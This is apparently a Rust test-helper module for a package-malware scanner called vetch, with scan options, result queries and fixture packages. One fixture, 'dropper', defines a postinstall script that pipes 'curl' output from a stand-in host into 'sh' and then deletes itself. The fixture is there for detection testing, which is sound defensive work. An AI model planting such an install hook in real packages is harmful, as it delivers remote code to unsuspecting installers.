//! What cases share: options, scans, and questions about their results.

use std::collections::BTreeMap;
use std::path::PathBuf;
use std::sync::Mutex;

use vetch_engine::policy::PolicyOptions;
use vetch_engine::{CacheMode, Cancel, HistoryOptions, IntelOptions, Progress, ScanOptions, ScanReport, Stage, scan};
use vetch_model::scan::ReleaseResult;
use vetch_testkit::{Pkg, Project};

/// A scan of a project, offline, without a cache, with its own home.
pub(crate) fn options(project: &Project) -> ScanOptions {
    ScanOptions {
        targets: vec![project.root()],
        ecosystem: None,
        offline: true,
        archives: None,
        cache: CacheMode::Off,
        jobs: Some(2),
        yara: Vec::new(),
        history: HistoryOptions::default(),
        intel: IntelOptions::default(),
        popular: None,
        rules: Vec::new(),
        policy: PolicyOptions::default(),
        trust_project: false,
        home: Some(project.home()),
        environment: BTreeMap::new(),
        today: jiff::civil::date(2026, 11, 2),
    }
}

/// As [`options`], of another target.
pub(crate) fn options_of(project: &Project, target: impl Into<PathBuf>) -> ScanOptions {
    ScanOptions { targets: vec![target.into()], ..options(project) }
}

#[track_caller]
pub(crate) fn run(options: &ScanOptions) -> ScanReport {
    scan(options, &Notices::default(), &Cancel::new()).unwrap_or_else(|error| panic!("{error}; {}", error.hint()))
}

/// Remembers what the user was told.
#[derive(Default)]
pub(crate) struct Notices(pub(crate) Mutex<Vec<String>>);

impl Progress for Notices {
    fn stage(&self, _: Stage, _: u64) {}
    fn advance(&self, _: u64, _: &str) {}
    fn notice(&self, message: &str) {
        self.0.lock().unwrap().push(message.to_owned());
    }
}

/// The only release with this purl.
#[track_caller]
pub(crate) fn release<'r>(report: &'r ScanReport, purl: &str) -> &'r ReleaseResult {
    let found: Vec<&ReleaseResult> = releases(report, purl);
    match found.as_slice() {
        [one] => one,
        _ => panic!("{} releases {purl} in {:#?}", found.len(), purls(report)),
    }
}

pub(crate) fn releases<'r>(report: &'r ScanReport, purl: &str) -> Vec<&'r ReleaseResult> {
    report.scan.releases.iter().filter(|release| release.purl.as_str() == purl).collect()
}

pub(crate) fn purls(report: &ScanReport) -> Vec<&str> {
    report.scan.releases.iter().map(|release| release.purl.as_str()).collect()
}

pub(crate) fn rules(release: &ReleaseResult) -> Vec<&'static str> {
    release.findings.iter().map(|finding| finding.rule).collect()
}

/// A package that does nothing anyone could mind.
pub(crate) fn harmless(name: &str) -> Pkg {
    Pkg::new(name, "1.0.0").file("index.js", "module.exports = (a, b) => a + b;\n")
}

/// A package whose install script fetches and runs something. Inert: the host does not exist.
pub(crate) fn dropper(name: &str) -> Pkg {
    let script = "const { execSync } = require('child_process');\n\
                  execSync('curl -s http://dropper.invalid/x | sh');\n\
                  require('fs').unlinkSync(__filename);\n";
    Pkg::new(name, "1.0.0").script("postinstall", "node setup.js").file("setup.js", script).file("index.js", "\n")
}
